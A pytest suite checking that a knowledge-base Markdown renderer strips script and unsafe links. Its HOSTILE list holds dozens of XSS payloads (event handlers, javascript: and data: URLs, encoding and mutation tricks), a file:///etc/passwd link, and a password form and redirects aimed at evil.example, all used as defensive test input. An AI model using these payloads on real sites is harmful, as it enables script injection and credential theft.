"""Editors' Markdown never becomes script, whatever stands in it, and stays the Markdown that they meant."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from kb_index.markdown import render

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "hi <img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](  vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "[x](https://a.example \"\" onclick=alert(1))",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "[x](https://a.example '\"><script>alert(1)</script>')",
    "<javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "[ref][1]\n\n[1]: data:text/html,x 'title'",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```\"onclick=alert(1)\nx\n```",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><input name=password></form>",
    "<math><mtext></mtext><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</p><script>alert(1)</script><p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "# <img src=x onerror=alert(1)>",
    "1. <details open ontoggle=alert(1)>",
    "~~<body onload=alert(1)>~~",
    "<div style=\"position:fixed;inset:0\">overlay</div>",
    "<p id=log class=x>clobber</p>",
    "\u202e[x](https://a.example)\u202c <b onclick=1>",
]
TAGS = {"p", "br", "strong", "em", "s", "code", "pre", "ul", "ol", "li", "blockquote", "a", "h3", "h4", "hr",
        "table", "thead", "tbody", "tr", "th", "td"}
ATTRIBUTES = {"a": {"href", "title", "rel", "target"}, "ol": {"start"}}


class Inspector(HTMLParser):
    """Notes every element that a browser would make."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_harmful_comes_out(text: str) -> None:
    for tag, attributes in Inspector(render(text)).found:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, set())
        href = attributes.get("href")
        assert href is None or href.lower().startswith(("http://", "https://", "mailto:", "tel:"))


def test_rendering_what_was_rendered_is_harmless_too() -> None:
    for text in HOSTILE:
        assert {tag for tag, _ in Inspector(render(render(text))).found} <= TAGS


def test_what_editors_mean_comes_out() -> None:
    html = render("**bold** *soft* ~~gone~~\nnext line\n\n- one\n- two\n\n[site](https://a.example) <x@a.example>")
    for part in ("<strong>bold</strong>", "<em>soft</em>", "<s>gone</s>", "<br>", "<li>one</li>",
                 'href="https://a.example"', 'href="mailto:x@a.example"'):
        assert part in html
    links = [attributes for tag, attributes in Inspector(html).found if tag == "a"]
    assert [(link["target"], link["rel"]) for link in links] == [("_blank", "noopener noreferrer")] * 2


def test_text_that_looks_like_markup_stays_text() -> None:
    assert render("if a < b & c > d") == "<p>if a &lt; b &amp; c &gt; d</p>"
    assert "&lt;script&gt;" in render("<script>x</script>")


def test_every_heading_stays_one() -> None:
    html = render("# Top\n\nUnder\n---\n### Three\n\n#### Four\n\n##### Five\n\n###### Six")
    assert html.replace("\n", "") == "<h3>Top</h3><h3>Under</h3><h3>Three</h3><h4>Four</h4><h4>Five</h4><h4>Six</h4>"
